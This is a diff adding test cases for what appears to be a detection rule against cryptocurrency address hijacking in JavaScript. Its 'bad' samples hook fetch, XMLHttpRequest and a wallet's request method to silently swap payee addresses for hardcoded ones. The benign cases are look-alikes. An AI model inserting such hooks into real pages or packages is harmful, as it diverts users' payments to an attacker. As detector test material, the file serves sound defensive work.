@@ -1,0 +1,30 @@
+import { defineCases } from '../../src/rule.ts';
+
+// Numbers, not accounts: nobody holds a key to them.
+const account = (n: number) => `0x${String(n).repeat(40)}`;
+const accounts = `const own = ['${account(1)}', '${account(2)}', '${account(3)}', '${account(4)}'];`;
+
+export default defineCases({
+  bad: [
+    {
+      name: 'a page’s requests pass through it',
+      code: `${accounts}\nconst real = window.fetch;\nwindow.fetch = async (...a) => { const r = await real(...a); return new Response((await r.text()).replace(/0x\\w{40}/, own[0])) }`,
+    },
+    {
+      name: 'older requests, too',
+      code: `${accounts}\nconst send = XMLHttpRequest.prototype.send;\nXMLHttpRequest.prototype.send = function (b) { return send.call(this, String(b).replace(/0x\\w{40}/, own[1])) }`,
+    },
+    {
+      name: 'a wallet’s orders',
+      code: `${accounts}\nconst ask = window.ethereum.request;\nwindow.ethereum.request = (order) => ask({ ...order, params: [{ ...order.params[0], to: own[2] }] })`,
+    },
+  ],
+  ok: [
+    { name: 'a stand-in for browsers without fetch', code: 'if (!window.fetch) window.fetch = (u) => load(u)' },
+    { name: 'a list of well-known tokens', code: `${accounts}\nexports.tokens = own` },
+    {
+      name: 'a tool that records requests',
+      code: `const real = globalThis.fetch;\nglobalThis.fetch = (...a) => { console.log(a[0]); return real(...a) };\nexports.zero = '${account(0)}'`,
+    },
+  ],
+});
